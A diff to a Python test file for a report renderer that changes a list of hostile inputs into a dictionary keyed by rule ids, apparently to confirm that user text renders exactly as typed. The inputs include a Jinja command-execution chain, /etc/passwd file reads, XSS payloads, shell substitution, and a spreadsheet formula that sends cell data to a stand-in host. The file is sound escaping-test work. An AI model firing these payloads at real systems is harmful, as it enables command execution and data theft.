@@ -15,20 +15,20 @@ from rules.policy import Severity
 from tests.reports import reading, samples
 from tests.reports.samples import HEADER, district, owed, problem, received, waived, week
 
-HOSTILE = [
-    "{{7*7}}",
-    "{{ config }}",
-    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
-    "{% for x in range(10**9) %}{% endfor %}",
-    "{{",
-    '#read("/etc/passwd")',
-    '#eval("1+1") $x^2$ @foo <label> *b* _i_ `r` = judul \\ // /* -- ~ \'a\' "b"',
-    "<script>alert(1)</script>",
-    '"><svg onload=alert(1)>',
-    "]]></text><image href='file:///etc/passwd'/>",
-    '=HYPERLINK("http://x.test/?"&A1,"klik")',
-    "%s %(x)s ${HOME} $(id) `id`",
-]
+HOSTILE = {
+    "B019": "{{7*7}}",
+    "B020": "{{ config }}",
+    "B021": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "B022": "{% for x in range(10**9) %}{% endfor %}",
+    "B024": "{{",
+    "a file": '#read("/etc/passwd")',
+    "typst": '#eval("1+1") $x^2$ @foo <label> *b* _i_ `r` = judul \\ // /* -- ~ \'a\' "b"',
+    "B031": "<script>alert(1)</script>",
+    "B033": '"><svg onload=alert(1)>',
+    "svg": "]]></text><image href='file:///etc/passwd'/>",
+    "B050": '=HYPERLINK("http://x.test/?"&A1,"klik")',
+    "shell": "%s %(x)s ${HOME} $(id) `id`",
+}
 
 
 def read(some: facts.Weekly) -> str:
@@ -206,7 +206,7 @@ def test_the_signing_office_is_named_in_its_form(signatory, head, signed):
     assert shown["signature"] == signed
 
 
-@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
 def test_text_of_users_is_shown_as_typed_wherever_it_stands(text):
     told = problem(title=text, office=text, outcome=text, category=text, code="P-9")
     some = replace(
